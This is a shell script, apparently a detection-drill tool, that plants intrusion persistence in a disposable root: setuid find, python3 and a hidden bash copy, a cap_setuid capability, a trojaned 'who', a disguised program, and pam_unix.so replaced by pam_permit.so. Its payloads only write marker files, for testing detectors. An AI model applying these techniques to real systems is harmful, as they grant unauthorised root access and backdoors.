#!/bin/sh
# Tamper with a root's packaged and privileged files the way intrusions keep root access (the root
# is a disposable copy, or a disposable container's own /). Payloads are harmless: a wrapper or a
# dropped program only writes /var/tmp/lifeline-planted-<mechanism>, and nothing planted is run.
#   roles/drill/files/tampering.sh ROOT MECHANISM...
# MECHANISM (several may be given):
#   suid_find          the setuid bit on find (find -exec gives a root shell)
#   suid_shell_copy    a copy of bash at /var/tmp/.x, setuid root
#   suid_python        the setuid bit on the python3 interpreter
#   cap_setuid_python  cap_setuid+ep on the python3 interpreter (security.capability, written with
#                      the planting host's python3, or setfattr, since the root may have neither)
#   binary_wrapper     /usr/bin/who moved to /usr/bin/.who and replaced by a script that writes the
#                      marker, then runs the moved original
#   unowned_in_bin     a program no package installed, /usr/sbin/kworker-sync
#   pam_unix_replaced  pam_unix.so overwritten with another PAM module (pam_permit.so: any password)
# With PLANT_RECORD=DIR it appends "MECHANISM PATH" to DIR/planted for every path (inside the root)
# it creates or changes.
set -eu
[ $# -ge 2 ] || { echo "usage: $0 ROOT MECHANISM..." >&2; exit 2; }
root=${1%/}
shift
[ -d "$root/etc" ] || { echo "$root/etc is not a directory: not a root" >&2; exit 2; }
record=${PLANT_RECORD:-}
# cap_setuid (bit 7) permitted and effective, in the kernel's vfs_cap_data revision 2.
cap_setuid_ep=0100000280000000000000000000000000000000

planted() {
  [ -n "$record" ] || return 0
  mkdir -p "$record"
  printf '%s %s\n' "$1" "$2" >>"$record/planted"
}

# real_file PATH...: the first PATH (inside the root) that is a regular file reached without a link
# in its first component (on a merged-/usr root /bin/x is /usr/bin/x: the latter is named).
real_file() {
  for candidate in "$@"; do
    top=${candidate#/}
    top=${top%%/*}
    [ -L "$root/$top" ] && continue
    if [ -f "$root$candidate" ] && [ ! -L "$root$candidate" ]; then
      printf '%s\n' "$candidate"
      return 0
    fi
  done
  return 1
}

# program NAME: the regular file a program name leads to in the program directories (a link in
# the same directory, python3 -> python3.11, is followed once).
program() {
  for dir in /usr/bin /usr/sbin /bin /sbin; do
    top=${dir#/}
    top=${top%%/*}
    [ -L "$root/$top" ] && continue
    path=$dir/$1
    if [ -L "$root$path" ]; then
      target=$(readlink "$root$path")
      case $target in
        /*) path=$target ;;
        *) path=$dir/$target ;;
      esac
    fi
    if [ -f "$root$path" ] && [ ! -L "$root$path" ]; then
      printf '%s\n' "$path"
      return 0
    fi
  done
  echo "no $1 in $root's program directories: nothing planted for it" >&2
  return 1
}

set_capability() {
  if command -v python3 >/dev/null 2>&1; then
    python3 -c 'import os, sys; os.setxattr(sys.argv[1], "security.capability", bytes.fromhex(sys.argv[2]), follow_symlinks=False)' "$1" "$2"
  elif command -v setfattr >/dev/null 2>&1; then
    setfattr -h -n security.capability -v "0x$2" "$1"
  else
    echo "neither python3 nor setfattr on this host: cannot set a capability" >&2
    return 1
  fi
}

for mechanism in "$@"; do
  case $mechanism in
    suid_find)
      path=$(program find)
      chmod u+s "$root$path"
      planted "$mechanism" "$path"
      ;;
    suid_shell_copy)
      shell=$(program bash)
      cp "$root$shell" "$root/var/tmp/.x"
      chown 0:0 "$root/var/tmp/.x"
      chmod 4755 "$root/var/tmp/.x"
      planted "$mechanism" /var/tmp/.x
      ;;
    suid_python)
      path=$(program python3)
      chmod u+s "$root$path"
      planted "$mechanism" "$path"
      ;;
    cap_setuid_python)
      path=$(program python3)
      set_capability "$root$path" "$cap_setuid_ep"
      planted "$mechanism" "$path"
      ;;
    binary_wrapper)
      path=$(program who)
      aside=${path%/*}/.who
      mv "$root$path" "$root$aside"
      cat >"$root$path" <<EOF
#!/bin/sh
echo planted >/var/tmp/lifeline-planted-binary_wrapper 2>/dev/null
exec $aside "\$@"
EOF
      chmod 0755 "$root$path"
      planted "$mechanism" "$path"
      planted "$mechanism" "$aside"
      ;;
    unowned_in_bin)
      path=/usr/sbin/kworker-sync
      [ -L "$root/usr" ] && { echo "$root/usr is a link: nothing planted" >&2; exit 1; }
      printf '#!/bin/sh\necho planted >/var/tmp/lifeline-planted-unowned_in_bin\n' >"$root$path"
      chmod 0755 "$root$path"
      planted "$mechanism" "$path"
      ;;
    pam_unix_replaced)
      # shellcheck disable=SC2046 # the globs name the multiarch directories
      module=$(real_file $(cd "$root" && printf '/%s ' usr/lib/*/security/pam_unix.so lib/*/security/pam_unix.so) \
        /usr/lib64/security/pam_unix.so /lib64/security/pam_unix.so /usr/lib/security/pam_unix.so /lib/security/pam_unix.so)
      # Overwritten in place: the inode, owner and mode stay, only the content is another module's.
      cat "$root${module%/*}/pam_permit.so" >"$root$module"
      planted "$mechanism" "$module"
      ;;
    *)
      echo "unknown mechanism $mechanism (known: suid_find suid_shell_copy suid_python cap_setuid_python binary_wrapper unowned_in_bin pam_unix_replaced)" >&2
      exit 2
      ;;
  esac
done
